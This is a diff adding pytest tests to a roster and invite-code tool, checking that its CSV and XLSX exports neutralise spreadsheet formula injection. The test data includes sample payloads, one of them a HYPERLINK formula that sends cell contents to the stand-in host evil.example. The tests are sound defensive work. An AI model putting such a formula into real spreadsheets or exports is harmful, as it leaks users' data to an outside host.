@@ -16,6 +16,7 @@ import pytest
 import hub.roster
 from hub.areas import area_by_path
 from hub.cli import main
+from hub.exports import safe_cell, unquote_cell, write_xlsx
 from hub.members import CODE_LENGTH
 from hub.phone import InvalidPhone, normalize_phone
 from hub.roster import (
@@ -611,3 +612,105 @@ def test_cli_refuses_a_bad_file_with_exit_2(
     assert captured.out == ""
     assert main(["--config", str(cli_config), "roster", "invites"]) == 0
     assert capsys.readouterr().out.splitlines() == [",".join(INVITE_COLUMNS)]
+
+
+# Formula injection in exports (hub/exports.py) -------------------------------------------------
+
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+def test_cli_invites_csv_neutralises_formulas_and_reads_quoted_phones_back(
+    cli_config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Names a spreadsheet would run; the phones as an exported CSV writes them ('+62...).
+    lines = [
+        f'K,L,,{rt},"{name.replace(chr(34), chr(34) * 2)}",\'+62812345670{rt}'
+        for rt, name in enumerate(FORMULA_NAMES, start=1)
+    ]
+    roster = write_csv(tmp_path, *lines)
+    assert main(["--config", str(cli_config), "roster", "import", str(roster)]) == 0
+    assert capsys.readouterr().out.startswith("created 5, updated 0, unchanged 0, rejected 0")
+
+    assert main(["--config", str(cli_config), "roster", "invites", "--format", "csv"]) == 0
+    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    # The import trims the tab; every name is written with the quote that keeps it text.
+    assert [row[1] for row in table[1:]] == ["'" + name.strip() for name in FORMULA_NAMES]
+    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_invites_csv_keeps_every_cell_in_its_row() -> None:
+    # A bare CR inside a name would end the row unquoted and start a row with "=...".
+    rows = [
+        dict.fromkeys(INVITE_COLUMNS, "") | {"member_id": 1, "name": name}
+        for name in [*FORMULA_NAMES, "Ahmad\r=1+1", "\r=1+1"]
+    ]
+    out = io.StringIO()
+    write_invites(rows, "csv", out)
+    table = list(csv.reader(io.StringIO(out.getvalue())))
+    assert [row[1] for row in table[1:]] == [
+        *("'" + name for name in FORMULA_NAMES),
+        "Ahmad\n=1+1",
+        "'\n=1+1",
+    ]
+
+
+async def test_quoted_cells_import_as_they_were_before_the_export(db: str, tmp_path: Path) -> None:
+    report = await import_roster(write_csv(tmp_path, "K,L,,1,'=Ahmad,'+6281190001234"))
+    assert report.created == 1, report.rejected
+    member = await Member.get()
+    assert (member.phone, member.name) == ("+6281190001234", "=Ahmad")
+
+
+def test_safe_cells() -> None:
+    assert [safe_cell(v) for v in [*FORMULA_NAMES, "\rx", "+6281234567001"]] == [
+        *("'" + name for name in FORMULA_NAMES),
+        "'\rx",
+        "'+6281234567001",
+    ]
+    assert [safe_cell(v) for v in ["Ahmad", "a=b", "", None, -5, 1.5]] == [
+        "Ahmad",
+        "a=b",
+        "",
+        "",
+        -5,
+        1.5,
+    ]
+    assert [unquote_cell(safe_cell(v)) for v in FORMULA_NAMES] == FORMULA_NAMES
+    assert unquote_cell("'Ahmad") == "'Ahmad"  # a quote the hub did not add stays
+
+
+def test_xlsx_export_writes_text_cells_never_formulas() -> None:
+    out = io.BytesIO()
+    write_xlsx(
+        out, ["name", "phone", "n"], [[name, "+6281234567001", -5] for name in FORMULA_NAMES]
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [row[0].value for row in rows] == FORMULA_NAMES  # kept exactly, no visible quote
+    assert {(row[0].data_type, row[0].quotePrefix) for row in rows} == {("s", True)}
+    assert {(row[1].value, row[1].data_type) for row in rows} == {("+6281234567001", "s")}
+    assert {row[2].value for row in rows} == {-5}
+
+
+def test_cli_regenerates_the_invite_codes_of_an_area_only(
+    cli_config: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["--config", str(cli_config), "roster", "import", str(FIXTURES / "good.csv")]) == 0
+    capsys.readouterr()
+    rw3 = ["--area", "sungai kunjang/loa bakung/rw 003", "--format", "json"]
+    assert main(["--config", str(cli_config), "roster", "invites", "--format", "json"]) == 0
+    before = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}
+
+    assert main(["--config", str(cli_config), "roster", "invites", *rw3, "--regenerate"]) == 0
+    renewed = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}
+    assert len(renewed) == 2
+    assert all(renewed[m] != before[m] for m in renewed)
+    assert main(["--config", str(cli_config), "roster", "invites", "--format", "json"]) == 0
+    after = {i["member_id"]: i["code"] for i in json.loads(capsys.readouterr().out)}
+    assert after == before | renewed  # the others keep theirs
